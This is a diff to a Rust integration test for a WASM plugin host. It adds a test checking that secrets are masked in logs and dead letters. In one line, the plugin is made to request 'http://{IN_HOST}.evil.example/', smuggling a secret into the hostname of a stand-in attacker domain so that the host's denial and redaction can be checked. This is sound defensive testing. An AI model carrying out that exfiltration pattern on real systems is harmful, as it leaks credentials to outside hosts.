@@ -55,9 +55,9 @@ plugin = "@PLUGINS@/io_probe.wasm"
         })
         .await;
     }
-    let old = wait_for_line(&log, "queues=[\"Old\"]", LIMIT).await;
+    let old = wait_for_line(&log, "queues=Old ", LIMIT).await;
     assert!(old.contains("contract=0.1.0"), "{old}");
-    let new = wait_for_line(&log, "queues=[\"New\"]", LIMIT).await;
+    let new = wait_for_line(&log, "queues=New ", LIMIT).await;
     assert!(new.contains("contract=0.2.0"), "{new}");
     assert_eq!(entries(&mut conn, &cfg.queue_stream("Old")).await.len(), 5);
 }
@@ -144,6 +144,77 @@ async fn secrets_reach_the_plugin_and_never_the_logs_or_dead_letters() {
     assert!(out.status.success(), "{status}");
     assert!(status.contains("Probe"), "{status}");
     assert!(!status.contains(TOKEN), "{status}");
+}
+
+/// A secret with a quote and a backslash, which a plugin echoes inside
+/// JSON (escaped), and one in the name a plugin asks to reach: neither
+/// reaches the log or the dead letter in any form.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_are_masked_in_the_forms_plugins_echo_them() {
+    const QUOTED: &str = "q\"uo\\te-S3CRET-9876";
+    const IN_HOST: &str = "hooktoken4242";
+    let redis = Redis::start();
+    let cfg = TestConfig::with_env(
+        r#"
+[routes]
+"probe" = ["Probe"]
+
+[queues.Probe]
+plugin = "@PLUGINS@/io_probe.wasm"
+allowed_hosts = ["https://api.example.com"]
+max_attempts = 1
+
+[queues.Probe.config]
+quoted = { env = "SWITCHYARD_TEST_QUOTED" }
+in_host = { env = "SWITCHYARD_TEST_IN_HOST" }
+"#,
+        &[
+            ("SWITCHYARD_TEST_QUOTED", QUOTED),
+            ("SWITCHYARD_TEST_IN_HOST", IN_HOST),
+        ],
+    );
+    let log = cfg.dir.join("host.log");
+    let _host = HostProcess::spawn_with(
+        &cfg.path,
+        redis.url(),
+        &log,
+        &[
+            ("SWITCHYARD_TEST_QUOTED", QUOTED),
+            ("SWITCHYARD_TEST_IN_HOST", IN_HOST),
+            ("RUST_LOG", "info"),
+        ],
+    )
+    .unwrap();
+    let mut conn = redis.conn().await;
+    let report = probe(
+        &mut conn,
+        &cfg,
+        "probe",
+        "e-1",
+        json!([
+            { "config": "quoted" },
+            { "http": { "method": "GET", "url": format!("http://{IN_HOST}.evil.example/") } },
+        ]),
+        LIMIT,
+    )
+    .await;
+    assert_eq!(report[0], "[secret]", "{report:?}");
+    assert_eq!(report[1]["error"], "denied", "{report:?}");
+    wait_for(LIMIT, "the denial logged", || {
+        let text = std::fs::read_to_string(&log).unwrap_or_default();
+        async move { text.contains("Outbound HTTP request denied.") }
+    })
+    .await;
+    let text = std::fs::read_to_string(&log).unwrap();
+    for form in ["S3CRET", IN_HOST] {
+        assert!(!text.contains(form), "the log holds {form}:\n{text}");
+    }
+    assert!(
+        text.contains("destination=http://[secret].evil.example"),
+        "{text}"
+    );
+    let dead = dead_letters(&mut conn, &cfg).await;
+    assert!(!dead[0].reason.contains("S3CRET"), "{}", dead[0].reason);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
